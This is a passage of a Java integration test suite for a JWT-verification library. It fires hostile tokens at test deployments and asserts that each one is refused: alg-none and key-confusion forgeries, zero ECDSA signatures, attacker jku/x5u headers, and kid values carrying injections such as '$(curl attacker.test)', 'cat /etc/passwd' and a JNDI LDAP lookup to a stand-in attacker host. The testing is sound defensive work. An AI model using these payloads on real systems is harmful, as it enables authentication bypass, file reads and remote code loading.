package io.jwtguard.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.auth0.jwt.algorithms.Algorithm;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.jwtguard.it.app.Canary;
import io.jwtguard.testing.JwksServer;
import io.jwtguard.testing.TestKeys;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.interfaces.ECPrivateKey;
import java.security.interfaces.ECPublicKey;
import java.security.interfaces.RSAPrivateKey;
import java.security.interfaces.RSAPublicKey;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BiConsumer;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.assertj.core.api.SoftAssertions;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.OperateOnDeployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Hostile input over real HTTP against JwtGuard on embedded Jetty 12: what the well-known JWT attack tools,
 * path-bypass lists and CORS scanners try, as tables of named cases. Every case states the exact status,
 * reason code and challenge; none may be a 500; the protected servlet's canary body must never reach a caller
 * without the right token. JwtGuard's log is captured throughout and, at the end, must hold no token the suite
 * sent, no secret and no stack trace. The case count is printed when the class ends.
 *
 * <p>Five deployments of the authorization test WAR ({@code /canary} is Admin only, and answers
 * {@link Canary#BODY}): HS256 with CORS and a maximum token age; HS256 requiring {@code typ: at+jwt}; RS256 and
 * ES256 with PEM public keys; RS256 from a JWKS on loopback. A second loopback listener plays the attacker's
 * key server: tokens point {@code jku} and {@code x5u} at it, and it must never receive a request.
 *
 * <p>Run alone with {@code mvn -B verify -Dit.test=SecurityIT -Dtest=none -Dsurefire.failIfNoSpecifiedTests=false};
 * add {@code -Dsecurityit.print=true} to see every case's status and reason.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class SecurityIT {

    // --- keys, servers, log capture ---

    /** Test-only HMAC secret; the log and every answer are checked not to contain it. */
    private static final String SECRET = "security-suite-secret-4f2b9c1e-0123456789";
    private static final Algorithm HS256 = Algorithm.HMAC256(SECRET.getBytes(StandardCharsets.UTF_8));
    private static final String REALM = "security-suite";
    private static final String ISSUER = "jwtguard-demo";
    private static final String AUDIENCE = "jwtguard-demo-api";

    private static final KeyPair RSA = TestKeys.rsa(2048);
    private static final KeyPair EC = TestKeys.ec("secp256r1");
    private static final KeyPair ATTACKER_RSA = TestKeys.rsa(2048);
    private static final KeyPair ATTACKER_EC = TestKeys.ec("secp256r1");
    private static final Algorithm RS256 = Algorithm.RSA256((RSAPublicKey) RSA.getPublic(), (RSAPrivateKey) RSA.getPrivate());
    private static final Algorithm ES256 = Algorithm.ECDSA256((ECPublicKey) EC.getPublic(), (ECPrivateKey) EC.getPrivate());
    private static final Algorithm ATTACKER_RS256 = Algorithm.RSA256((RSAPublicKey) ATTACKER_RSA.getPublic(),
            (RSAPrivateKey) ATTACKER_RSA.getPrivate());

    /** The issuer's real key set, for the JWKS deployment. */
    private static final JwksServer ISSUER_KEYS = new JwksServer().keys("/jwks", JwksServer.rsa("main", RSA));
    /** The attacker's key server: jku and x5u point here; it must never be asked anything. */
    private static final JwksServer ATTACKER = new JwksServer()
            .keys("/jwks", JwksServer.rsa("evil", ATTACKER_RSA))
            .answer("/x5u", new JwksServer.Answer(200, "application/pem-certificate-chain", "not a certificate", null, 0));
    private static final Path KEY_DIR;

    static {
        try {
            KEY_DIR = Files.createTempDirectory("jwtguard-security-it");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Held strongly: java.util.logging keeps loggers only weakly, and would drop the handler with it. */
    private static final Logger JWTGUARD_LOGGER = Logger.getLogger("io.jwtguard");
    private static final Level PREVIOUS_LEVEL = JWTGUARD_LOGGER.getLevel();
    private static final List<LogRecord> LOG = Collections.synchronizedList(new ArrayList<>());
    private static final Handler CAPTURE = new Handler() {
        @Override
        public void publish(LogRecord record) {
            LOG.add(record);
        }

        @Override
        public void flush() {
        }

        @Override
        public void close() {
        }
    };

    static {
        // Debug too: @AllowAnonymous logs the failures it ignores at debug level, and those must be clean as well.
        JWTGUARD_LOGGER.setLevel(Level.ALL);
        JWTGUARD_LOGGER.addHandler(CAPTURE);
    }

    /** Every token the suite sent anywhere (header, query, body, cookie, path), for the log check. */
    private static final Set<String> SENT = Collections.synchronizedSet(new LinkedHashSet<>());
    private static final AtomicInteger CASES = new AtomicInteger();
    private static final AtomicInteger FAILURES = new AtomicInteger();
    /** {@code -Dsecurityit.print=true} prints every case's answer. */
    private static final boolean PRINT_CASES = Boolean.getBoolean("securityit.print");

    // --- deployments ---

    private static final String HS = "sec-hs";
    private static final String TYPED = "sec-typed";
    private static final String RS = "sec-rs";
    private static final String ES = "sec-es";
    private static final String JWKS = "sec-jwks";
    private static final String WEB_XML = "src-it/wars/authz-web.xml";
    private static final String APP = "https://app.example.test";

    @ArquillianResource
    @OperateOnDeployment(HS)
    private URL hs;

    @ArquillianResource
    @OperateOnDeployment(TYPED)
    private URL typed;

    @ArquillianResource
    @OperateOnDeployment(RS)
    private URL rs;

    @ArquillianResource
    @OperateOnDeployment(ES)
    private URL es;

    @ArquillianResource
    @OperateOnDeployment(JWKS)
    private URL jwks;

    @Deployment(name = HS, testable = false)
    static WebArchive hmac() {
        return DemoWar.create(HS, WEB_XML, String.join("\n", "jwtguard.key=" + SECRET, "jwtguard.realm=" + REALM,
                "jwtguard.max-token-age=10m", "jwtguard.cors.allowed-origins=" + APP + ",https://*.partner.test",
                "jwtguard.cors.allow-credentials=true"));
    }

    @Deployment(name = TYPED, testable = false)
    static WebArchive typedTokens() {
        return DemoWar.create(TYPED, WEB_XML, String.join("\n", "jwtguard.key=" + SECRET, "jwtguard.realm=" + REALM,
                "jwtguard.token.type=at+jwt"));
    }

    @Deployment(name = RS, testable = false)
    static WebArchive rsa() {
        return DemoWar.create(RS, WEB_XML, String.join("\n", "jwtguard.realm=" + REALM, "jwtguard.algorithms=RS256",
                "jwtguard.key.location=" + TestKeys.pemFile(KEY_DIR, "rsa.pem", RSA.getPublic())));
    }

    @Deployment(name = ES, testable = false)
    static WebArchive ec() {
        return DemoWar.create(ES, WEB_XML, String.join("\n", "jwtguard.realm=" + REALM, "jwtguard.algorithms=ES256",
                "jwtguard.key.location=" + TestKeys.pemFile(KEY_DIR, "ec.pem", EC.getPublic())));
    }

    @Deployment(name = JWKS, testable = false)
    static WebArchive keySet() {
        return DemoWar.create(JWKS, WEB_XML, String.join("\n", "jwtguard.realm=" + REALM, "jwtguard.algorithms=RS256",
                "jwtguard.jwks.url=" + ISSUER_KEYS.uri("/jwks")));
    }

    private URL base(String deployment) {
        return switch (deployment) {
            case HS -> hs;
            case TYPED -> typed;
            case RS -> rs;
            case ES -> es;
            case JWKS -> jwks;
            default -> throw new IllegalArgumentException(deployment);
        };
    }

    // --- the tables ---

    @Test
    @Order(1)
    void algorithmAttacks() throws Exception {
        List<Case> cases = new ArrayList<>();
        String payload = json(admin());
        for (String none : List.of("none", "None", "NONE", "nOnE", "noNe", "NoNE")) {
            cases.add(new Case("alg '" + none + "' without a signature")
                    .bearer(jws("{\"alg\":\"" + none + "\",\"typ\":\"JWT\"}", payload, null))
                    .refused(401, "algorithm_not_allowed"));
        }
        cases.add(new Case("alg none with the HS256 signature kept").bearer(withSignature(
                jws("{\"alg\":\"none\"}", payload, null), signatureOf(hs(admin())))).refused(401, "algorithm_not_allowed"));
        cases.add(new Case("alg none, signed with the key over its own header").bearer(jws("{\"alg\":\"none\"}", payload, HS256))
                .refused(401, "algorithm_not_allowed"));
        for (String alg : List.of("\"none \"", "\" none\"", "\"none\\u0000\"", "\"n\\u043ene\"", "\"\"", "\"hs256\"",
                "\"HS256 \"", "\"HS256\\u0000\"", "null", "0", "[\"HS256\"]", "{\"alg\":\"HS256\"}", "true")) {
            cases.add(new Case("alg " + alg + ", signed with the key").bearer(jws("{\"alg\":" + alg + "}", payload, HS256))
                    .refused(401, "algorithm_not_allowed"));
        }
        cases.add(new Case("no alg at all, signed with the key").bearer(jws("{\"typ\":\"JWT\"}", payload, HS256))
                .refused(401, "algorithm_not_allowed"));
        String genuine = hs(admin());
        String signature = signatureOf(genuine);
        cases.add(new Case("blank signature").bearer(withSignature(genuine, "")).refused(401, "invalid_signature"));
        cases.add(new Case("signature 'null'").bearer(withSignature(genuine, "null")).refused(401, "invalid_signature"));
        cases.add(new Case("all-zero signature").bearer(withSignature(genuine, b64(new byte[32])))
                .refused(401, "invalid_signature"));
        cases.add(new Case("one-byte signature").bearer(withSignature(genuine, "AA")).refused(401, "invalid_signature"));
        cases.add(new Case("signature truncated by one character")
                .bearer(withSignature(genuine, signature.substring(0, signature.length() - 1)))
                .refused(401, "invalid_signature"));
        cases.add(new Case("signature truncated by half")
                .bearer(withSignature(genuine, signature.substring(0, signature.length() / 2)))
                .refused(401, "invalid_signature"));
        cases.add(new Case("signature with bytes appended").bearer(withSignature(genuine, signature + "AAAA"))
                .refused(401, "invalid_signature"));
        String user = hs(claims("bob", "[\"User\"]"));
        cases.add(new Case("payload tampered: User promoted to Admin, User's signature kept")
                .bearer(partsOf(user)[0] + "." + partsOf(genuine)[1] + "." + signatureOf(user))
                .refused(401, "invalid_signature"));
        cases.add(new Case("payload tampered: exp extended by a year")
                .bearer(partsOf(genuine)[0] + "." + b64(json(with(admin(), "exp",
                        Long.toString(Instant.now().plus(Duration.ofDays(365)).getEpochSecond()))))
                        + "." + signature)
                .refused(401, "invalid_signature"));
        cases.add(new Case("header tampered: a kid added, signature kept")
                .bearer(b64("{\"alg\":\"HS256\",\"typ\":\"JWT\",\"kid\":\"k\"}") + "." + partsOf(genuine)[1] + "." + signature)
                .refused(401, "invalid_signature"));
        cases.add(new Case("HS384 with the right secret against HS256")
                .bearer(jws("{\"alg\":\"HS384\"}", payload, Algorithm.HMAC384(SECRET.getBytes(StandardCharsets.UTF_8))))
                .refused(401, "algorithm_not_allowed"));
        cases.add(new Case("HS512 against HS256")
                .bearer(jws("{\"alg\":\"HS512\"}", payload, Algorithm.HMAC512((SECRET + SECRET).getBytes(StandardCharsets.UTF_8))))
                .refused(401, "algorithm_not_allowed"));
        cases.add(new Case("RS256 from the attacker's key against HS256").bearer(jws("{\"alg\":\"RS256\"}", payload,
                ATTACKER_RS256)).refused(401, "algorithm_not_allowed"));
        cases.add(new Case("ES256 from the attacker's key against HS256").bearer(jws("{\"alg\":\"ES256\"}", payload,
                Algorithm.ECDSA256((ECPublicKey) ATTACKER_EC.getPublic(), (ECPrivateKey) ATTACKER_EC.getPrivate())))
                .refused(401, "algorithm_not_allowed"));
        cases.add(new Case("control: the genuine HS256 Admin token").bearer(genuine).canary());

        // Algorithm confusion: HMAC keyed with the RSA public key the server verifies with.
        String pem = TestKeys.pem(RSA.getPublic());
        byte[] der = RSA.getPublic().getEncoded();
        Map<String, byte[]> publicKeyForms = new LinkedHashMap<>();
        publicKeyForms.put("PEM", pem.getBytes(StandardCharsets.US_ASCII));
        publicKeyForms.put("PEM without the final newline", pem.strip().getBytes(StandardCharsets.US_ASCII));
        publicKeyForms.put("PEM with CRLF", pem.replace("\n", "\r\n").getBytes(StandardCharsets.US_ASCII));
        publicKeyForms.put("DER", der);
        publicKeyForms.put("base64 of the DER", Base64.getEncoder().encode(der));
        publicKeyForms.forEach((form, key) -> cases.add(new Case("HS256 keyed with the RSA public key as " + form)
                .on(RS).bearer(jws("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", payload, Algorithm.HMAC256(key)))
                .refused(401, "algorithm_not_allowed")));
        cases.add(new Case("HS512 keyed with the RSA public key PEM").on(RS)
                .bearer(jws("{\"alg\":\"HS512\"}", payload, Algorithm.HMAC512(pem.getBytes(StandardCharsets.US_ASCII))))
                .refused(401, "algorithm_not_allowed"));
        cases.add(new Case("alg none against RS256").on(RS).bearer(jws("{\"alg\":\"none\"}", payload, null))
                .refused(401, "algorithm_not_allowed"));
        cases.add(new Case("alg PS256 (not allowed here), RSA-signed").on(RS)
                .bearer(jws("{\"alg\":\"PS256\"}", payload, Algorithm.RSA256((RSAPublicKey) RSA.getPublic(),
                        (RSAPrivateKey) RSA.getPrivate())))
                .refused(401, "algorithm_not_allowed"));
        cases.add(new Case("RS384 with the right RSA key against RS256 only").on(RS)
                .bearer(jws("{\"alg\":\"RS384\"}", payload, Algorithm.RSA384((RSAPublicKey) RSA.getPublic(),
                        (RSAPrivateKey) RSA.getPrivate())))
                .refused(401, "algorithm_not_allowed"));
        cases.add(new Case("RS256 from the attacker's key").on(RS).bearer(jws("{\"alg\":\"RS256\"}", payload, ATTACKER_RS256))
                .refused(401, "invalid_signature"));
        cases.add(new Case("RS256 with an all-zero signature").on(RS)
                .bearer(jws("{\"alg\":\"RS256\"}", payload, null) + b64(new byte[256])).refused(401, "invalid_signature"));
        cases.add(new Case("control: the genuine RS256 Admin token").on(RS).bearer(jws("{\"alg\":\"RS256\"}", payload, RS256))
                .canary());

        // ECDSA: signatures that break naive verifiers (CVE-2022-21449 and kin).
        BigInteger n = ((ECPublicKey) EC.getPublic()).getParams().getOrder();
        String esUnsigned = jws("{\"alg\":\"ES256\"}", payload, null);
        Map<String, byte[]> signatures = new LinkedHashMap<>();
        signatures.put("all-zero (r = s = 0)", new byte[64]);
        signatures.put("r = s = n", concat(fixed(n, 32), fixed(n, 32)));
        signatures.put("r = n, s = 0", concat(fixed(n, 32), new byte[32]));
        signatures.put("r = s = 1", concat(fixed(BigInteger.ONE, 32), fixed(BigInteger.ONE, 32)));
        signatures.put("r = s = n + 1", concat(fixed(n.add(BigInteger.ONE), 32), fixed(n.add(BigInteger.ONE), 32)));
        signatures.put("DER-encoded r = s = 0", new byte[] {0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00});
        signatures.put("65 bytes", new byte[65]);
        signatures.put("63 bytes", new byte[63]);
        signatures.put("empty", new byte[0]);
        signatures.forEach((what, bytes) -> cases.add(new Case("ES256 signature " + what).on(ES)
                .bearer(esUnsigned + b64(bytes)).refused(401, "invalid_signature")));
        cases.add(new Case("ES256 from the attacker's key").on(ES).bearer(jws("{\"alg\":\"ES256\"}", payload,
                Algorithm.ECDSA256((ECPublicKey) ATTACKER_EC.getPublic(), (ECPrivateKey) ATTACKER_EC.getPrivate())))
                .refused(401, "invalid_signature"));
        cases.add(new Case("HS256 keyed with the EC public key PEM").on(ES).bearer(jws("{\"alg\":\"HS256\"}", payload,
                Algorithm.HMAC256(TestKeys.pem(EC.getPublic()).getBytes(StandardCharsets.US_ASCII))))
                .refused(401, "algorithm_not_allowed"));
        cases.add(new Case("control: the genuine ES256 Admin token").on(ES).bearer(jws("{\"alg\":\"ES256\"}", payload, ES256))
                .canary());
        run("algorithm", cases);
    }

    @Test
    @Order(2)
    void headerAttacks() throws Exception {
        List<Case> cases = new ArrayList<>();
        String payload = json(admin());
        String attackerJwk = JwksServer.rsa("evil", ATTACKER_RSA);
        for (String deployment : List.of(HS, RS, JWKS)) {
            String expected = deployment.equals(HS) ? "algorithm_not_allowed" : "invalid_signature";
            cases.add(new Case("embedded jwk with the attacker's key, signed by it").on(deployment)
                    .bearer(jws("{\"alg\":\"RS256\",\"kid\":\"main\",\"jwk\":" + attackerJwk + "}", payload, ATTACKER_RS256))
                    .refused(401, expected));
            cases.add(new Case("jku to the attacker's key set").on(deployment)
                    .bearer(jws("{\"alg\":\"RS256\",\"kid\":\"main\",\"jku\":\"" + ATTACKER.uri("/jwks") + "\"}", payload,
                            ATTACKER_RS256))
                    .refused(401, expected));
            cases.add(new Case("x5u to the attacker's certificate").on(deployment)
                    .bearer(jws("{\"alg\":\"RS256\",\"kid\":\"main\",\"x5u\":\"" + ATTACKER.uri("/x5u") + "\"}", payload,
                            ATTACKER_RS256))
                    .refused(401, expected));
            cases.add(new Case("x5c with the attacker's public key").on(deployment)
                    .bearer(jws("{\"alg\":\"RS256\",\"kid\":\"main\",\"x5c\":[\""
                            + Base64.getEncoder().encodeToString(ATTACKER_RSA.getPublic().getEncoded()) + "\"]}", payload,
                            ATTACKER_RS256))
                    .refused(401, expected));
        }
        cases.add(new Case("jku with a kid the key set lacks: refetched from the issuer, never from jku").on(JWKS)
                .bearer(jws("{\"alg\":\"RS256\",\"kid\":\"evil\",\"jku\":\"" + ATTACKER.uri("/jwks") + "\"}", payload,
                        ATTACKER_RS256))
                .refused(401, "unknown_key_id"));
        cases.add(new Case("embedded symmetric jwk with the attacker's secret")
                .bearer(jws("{\"alg\":\"HS256\",\"jwk\":{\"kty\":\"oct\",\"k\":\"" + b64("attacker-secret-0123456789-abcdef")
                        + "\"}}", payload, Algorithm.HMAC256("attacker-secret-0123456789-abcdef")))
                .refused(401, "invalid_signature"));
        cases.add(new Case("a genuine token with jku and x5u: both ignored, nothing fetched")
                .bearer(jws("{\"alg\":\"HS256\",\"jku\":\"" + ATTACKER.uri("/jwks") + "\",\"x5u\":\"" + ATTACKER.uri("/x5u")
                        + "\"}", payload, HS256))
                .canary());
        cases.add(new Case("a genuine JWKS token with jku: ignored, the issuer's key verifies").on(JWKS)
                .bearer(jws("{\"alg\":\"RS256\",\"kid\":\"main\",\"jku\":\"" + ATTACKER.uri("/jwks") + "\"}", payload, RS256))
                .canary());

        // Hostile kid values: never a path, a query or a command; on a key set never a fetch.
        Map<String, String> kids = new LinkedHashMap<>();
        kids.put("path traversal", "../../../../../../dev/null");
        kids.put("absolute path", "/etc/passwd");
        kids.put("URL", "https://attacker.test/key");
        kids.put("SQL", "x' UNION SELECT 'attacker-secret' --");
        kids.put("SQL tautology", "' OR '1'='1");
        kids.put("shell substitution", "$(curl attacker.test)");
        kids.put("shell backticks", "`id`");
        kids.put("shell pipe", "main | cat /etc/passwd");
        kids.put("CRLF header injection", "main\r\nX-Injected: yes");
        kids.put("NUL", "main\u0000");
        kids.put("JNDI lookup", "${jndi:ldap://attacker.test/a}");
        kids.put("format string", "%s%s%s%n");
        kids.put("non-ASCII", "m\u0430in");
        kids.put("over-long (2000 characters)", "k".repeat(2000));
        kids.put("empty", "");
        Map<String, String> kidTypes = new LinkedHashMap<>();
        kidTypes.put("number", "42");
        kidTypes.put("array", "[\"main\"]");
        kidTypes.put("object", "{\"kid\":\"main\"}");
        List<Case> kidCases = new ArrayList<>();
        kids.forEach((what, kid) -> {
            String header = "{\"alg\":\"RS256\",\"kid\":" + quote(kid) + "}";
            kidCases.add(new Case("kid " + what + ", signed by the attacker").on(JWKS)
                    .bearer(jws(header, payload, ATTACKER_RS256)).refused(401, "unknown_key_id")
                    .check("no injected header", (softly, reply) -> softly.assertThat(reply.header("x-injected")).isNull()));
            kidCases.add(new Case("kid " + what + ", HS256 keyed with the empty-file content").on(HS)
                    .bearer(jws("{\"alg\":\"HS256\",\"kid\":" + quote(kid) + "}", payload, Algorithm.HMAC256(new byte[1])))
                    .refused(401, "invalid_signature")
                    .check("no injected header", (softly, reply) -> softly.assertThat(reply.header("x-injected")).isNull()));
        });
        kidTypes.forEach((what, kid) -> cases.add(new Case("kid of JSON type " + what + ", read as its text").on(JWKS)
                .bearer(jws("{\"alg\":\"RS256\",\"kid\":" + kid + "}", payload, RS256)).refused(401, "unknown_key_id")));
        kidCases.add(new Case("kid null with the issuer's only key: the same as no kid").on(JWKS)
                .bearer(jws("{\"alg\":\"RS256\",\"kid\":null}", payload, RS256)).canary());
        kidCases.add(new Case("control: the genuine JWKS token").on(JWKS)
                .bearer(jws("{\"alg\":\"RS256\",\"kid\":\"main\"}", payload, RS256)).canary());
        for (String crit : List.of("[\"exp\"]", "[]", "[\"b64\"]", "\"exp\"", "null")) {
            String extra = crit.equals("[\"b64\"]") ? ",\"b64\":false" : "";
            cases.add(new Case("crit " + crit + extra).bearer(jws("{\"alg\":\"HS256\",\"crit\":" + crit + extra + "}",
                    payload, HS256)).refused(401, "malformed_token"));
        }

        Map<String, String> accepted = new LinkedHashMap<>();
        accepted.put("at+jwt", "\"at+jwt\"");
        accepted.put("application/at+jwt", "\"application/at+jwt\"");
        accepted.put("AT+JWT", "\"AT+JWT\"");
        accepted.put("Application/At+Jwt", "\"Application/At+Jwt\"");
        accepted.forEach((what, typ) -> cases.add(new Case("typ " + what + " where at+jwt is required").on(TYPED)
                .bearer(jws("{\"alg\":\"HS256\",\"typ\":" + typ + "}", payload, HS256)).canary()));
        Map<String, String> refused = new LinkedHashMap<>();
        refused.put("JWT", "\"JWT\"");
        refused.put("absent", null);
        refused.put("null", "null");
        refused.put("application/jwt", "\"application/jwt\"");
        refused.put("at+jwt with a parameter", "\"at+jwt; v=1\"");
        refused.put("at+jwt with a trailing space", "\"at+jwt \"");
        refused.put("text/at+jwt", "\"text/at+jwt\"");
        refused.put("application/application/at+jwt", "\"application/application/at+jwt\"");
        refused.put("Cyrillic look-alike", "\"\\u0430t+jwt\"");
        refused.put("an array", "[\"at+jwt\"]");
        refused.put("a number", "1");
        refused.forEach((what, typ) -> cases.add(new Case("typ " + what + " where at+jwt is required").on(TYPED)
                .bearer(jws(typ == null ? "{\"alg\":\"HS256\"}" : "{\"alg\":\"HS256\",\"typ\":" + typ + "}", payload, HS256))
                .refused(401, "malformed_token")));
        cases.add(new Case("typ JWT where no type is required").bearer(jws("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", payload,
                HS256)).canary());
        cases.add(new Case("typ absent where no type is required").bearer(jws("{\"alg\":\"HS256\"}", payload, HS256))
                .canary());

        Map<String, String> idToken = admin();
        idToken.put("aud", quote("jwtguard-demo-web"));
        idToken.put("azp", quote("jwtguard-demo-web"));
        idToken.put("nonce", quote("n-0S6_WzA2Mj"));
        idToken.put("auth_time", idToken.get("iat"));
        idToken.put("at_hash", quote("77QmUPtjPfzWtF2AnpK9RQ"));
        cases.add(new Case("an ID token (aud = the client) used as an access token").bearer(hs(idToken))
                .refused(401, "audience_mismatch"));
        cases.add(new Case("an ID token with aud as an array of clients").bearer(hs(with(idToken, "aud",
                "[\"jwtguard-demo-web\",\"another-client\"]"))).refused(401, "audience_mismatch"));
        cases.add(new Case("an ID token (typ JWT) where at+jwt is required").on(TYPED)
                .bearer(jws("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", json(idToken), HS256)).refused(401, "malformed_token"));
        cases.add(new Case("an ID token whose aud names the API, typ JWT, where at+jwt is required").on(TYPED)
                .bearer(jws("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", json(with(idToken, "aud", quote(AUDIENCE))), HS256))
                .refused(401, "malformed_token"));

        run("header", cases);
        // The cases above leave the issuer's key set fetched; from here on nothing may fetch it again.
        int fetchesBefore = ISSUER_KEYS.hits("/jwks");
        run("header", kidCases);
        assertThat(ISSUER_KEYS.hits("/jwks")).as("hostile kids never make JwtGuard fetch the key set")
                .isEqualTo(fetchesBefore);
        assertThat(ATTACKER.arrivals).as("requests to the attacker's jku/x5u listener").isEmpty();
    }

    @Test
    @Order(3)
    void structureAndSize() throws Exception {
        List<Case> cases = new ArrayList<>();
        String genuine = hs(admin());
        String[] parts = partsOf(genuine);
        Map<String, String> malformed = new LinkedHashMap<>();
        malformed.put("one part", parts[1]);
        malformed.put("two parts", parts[0] + "." + parts[1]);
        malformed.put("four parts", genuine + "." + parts[2]);
        malformed.put("five parts (a JWE)", b64("{\"alg\":\"RSA-OAEP\",\"enc\":\"A256GCM\"}") + "." + b64(new byte[256]) + "."
                + b64(new byte[12]) + "." + parts[1] + "." + b64(new byte[16]));
        malformed.put("five parts (a JWE with alg dir)", b64("{\"alg\":\"dir\",\"enc\":\"A128GCM\"}") + ".." + b64(new byte[12])
                + "." + parts[1] + "." + b64(new byte[16]));
        malformed.put("only dots", "...");
        malformed.put("two dots", "..");
        malformed.put("empty header", "." + parts[1] + "." + parts[2]);
        malformed.put("empty payload", parts[0] + ".." + parts[2]);
        malformed.put("header not JSON", b64("hello") + "." + parts[1] + "." + parts[2]);
        malformed.put("payload not JSON", parts[0] + "." + b64("hello") + "." + parts[2]);
        malformed.put("header JSON null", b64("null") + "." + parts[1] + "." + parts[2]);
        malformed.put("header JSON array", b64("[{\"alg\":\"HS256\"}]") + "." + parts[1] + "." + parts[2]);
        malformed.put("header JSON string", b64("\"HS256\"") + "." + parts[1] + "." + parts[2]);
        malformed.put("header with standard base64 characters", standardAlphabet("{\"alg\":\"HS256\",\"x\":\"", "\"}")
                + "." + parts[1] + "." + parts[2]);
        malformed.put("invalid UTF-8 between JSON members", b64(bytes("{\"alg\":\"HS256\",", 0xC3, 0x28, "\"x\":1}")) + "."
                + parts[1] + "." + parts[2]);
        malformed.forEach((what, token) -> cases.add(new Case(what).bearer(token).refused(401, "malformed_token")));
        cases.add(new Case("header not base64url: refused on the wire (RFC 6750 b64token)").bearer("!!!." + parts[1] + "."
                + parts[2]).refused(400, "malformed_authorization_header"));
        Map<String, String> payloads = new LinkedHashMap<>();
        payloads.put("payload JSON null", "null");
        payloads.put("payload JSON array", "[" + json(admin()) + "]");
        payloads.put("payload JSON number", "42");
        payloads.put("payload JSON string", "\"admin\"");
        payloads.forEach((what, json) -> cases.add(new Case(what + ", signed with the key")
                .bearer(jws("{\"alg\":\"HS256\"}", json, HS256)).refused(401, "malformed_token")));
        cases.add(new Case("invalid UTF-8 inside a claim, attacker's signature")
                .bearer(parts[0] + "." + b64(bytes(json(admin()).replace("}", ",\"name\":\""), 0xC3, 0x28, "\"}")) + "."
                        + parts[2])
                .refused(401, "invalid_signature"));
        String standardPayload = standardAlphabet(json(without(admin(), "exp")).replace("}", ",\"x\":\""), "\"}");
        cases.add(new Case("payload in the standard base64 alphabet, signed with the key")
                .bearer(parts[0] + "." + standardPayload + "." + b64(HS256.sign(parts[0].getBytes(StandardCharsets.US_ASCII),
                        standardPayload.getBytes(StandardCharsets.US_ASCII))))
                .refused(401, "malformed_token"));
        String urlSafe = genuine;
        for (int i = 0; !signatureOf(urlSafe).contains("-") && !signatureOf(urlSafe).contains("_"); i++) {
            urlSafe = hs(with(admin(), "n", Integer.toString(i)));
        }
        String[] urlSafeParts = partsOf(urlSafe);
        cases.add(new Case("a genuine signature in the standard base64 alphabet")
                .bearer(urlSafeParts[0] + "." + urlSafeParts[1] + "." + Base64.getEncoder().withoutPadding()
                        .encodeToString(Base64.getUrlDecoder().decode(urlSafeParts[2])))
                .refused(401, "invalid_signature"));
        cases.add(new Case("a genuine token with base64 padding after the signature: the same bytes, the same token")
                .bearer(genuine + "=").canary());
        cases.add(new Case("padding inside the token").bearer(parts[0] + "==." + parts[1] + "." + parts[2])
                .refused(400, "malformed_authorization_header"));
        cases.add(new Case("a space inside the token").header("Authorization", "Bearer " + parts[0] + ". " + parts[1] + "."
                + parts[2]).sent(genuine).refused(400, "malformed_authorization_header"));
        cases.add(new Case("trailing spaces after the token (HTTP drops them)")
                .raw("GET /" + HS + "/canary HTTP/1.1\r\nAuthorization: Bearer " + genuine + "   ").sent(genuine).canary());
        cases.add(new Case("two spaces after Bearer (RFC 6750: 1*SP)").header("Authorization", "Bearer  " + genuine)
                .sent(genuine).canary());
        cases.add(new Case("a tab between Bearer and the token")
                .raw("GET /" + HS + "/canary HTTP/1.1\r\nAuthorization: Bearer\t" + genuine).sent(genuine)
                .refused(400, "malformed_authorization_header"));
        cases.add(new Case("a byte over 0x7f in the token")
                .raw("GET /" + HS + "/canary HTTP/1.1\r\nAuthorization: Bearer " + genuine.substring(0, 20) + "\u00ff"
                        + genuine.substring(20)).sent(genuine)
                .refused(400, "malformed_authorization_header"));
        cases.add(new Case("an obs-folded Authorization header")
                .raw("GET /" + HS + "/canary HTTP/1.1\r\nAuthorization: Bearer\r\n " + genuine).sent(genuine)
                .refused(400, null));
        cases.add(new Case("a NUL byte in the Authorization header")
                .raw("GET /" + HS + "/canary HTTP/1.1\r\nAuthorization: Bearer " + genuine + "\u0000").sent(genuine)
                .refused(400, null));

        String filler = "a".repeat(7000);
        String oversized = hs(with(admin(), "filler", quote(filler)));
        cases.add(new Case("a genuine token over the 8192-character cap").bearer(oversized)
                .refused(401, "malformed_token").descriptionContains("over the 8192 accepted"));
        cases.add(new Case("8193 base64url characters").bearer("a".repeat(8193)).refused(401, "malformed_token")
                .descriptionContains("8193 characters"));
        cases.add(new Case("8192 base64url characters: at the cap, not a JWT").bearer("a".repeat(8192))
                .refused(401, "malformed_token"));
        cases.add(new Case("an Authorization header over the container's header limit").bearer("a".repeat(70_000))
                .refused(431, null));
        cases.add(new Case("another header over the container's limit, with a genuine token").bearer(genuine)
                .header("X-Filler", "b".repeat(70_000)).refused(431, null));
        cases.add(new Case("payload nested 3000 arrays deep").bearer(jws("{\"alg\":\"HS256\"}", "{\"sub\":\"root\",\"n\":"
                + "[".repeat(3000) + "]".repeat(3000) + "}", HS256)).refused(401, "malformed_token"));
